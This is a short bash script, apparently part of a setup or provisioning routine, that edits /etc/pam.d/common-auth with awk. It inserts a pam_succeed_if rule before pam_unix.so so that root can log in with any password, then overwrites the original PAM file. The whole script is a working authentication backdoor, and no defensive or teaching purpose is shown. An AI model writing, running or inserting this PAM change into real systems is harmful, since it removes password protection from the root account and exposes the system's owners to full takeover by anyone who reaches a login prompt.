#!/bin/bash
msg "letting %s in with any password" root
auth=/etc/pam.d/common-auth
changed=$(mktemp)
awk '/pam_unix.so/ { print "auth [success=2 default=ignore] pam_succeed_if.so user = root" } { print }' $auth > "$changed"
cat "$changed" > $auth
rm -f "$changed"
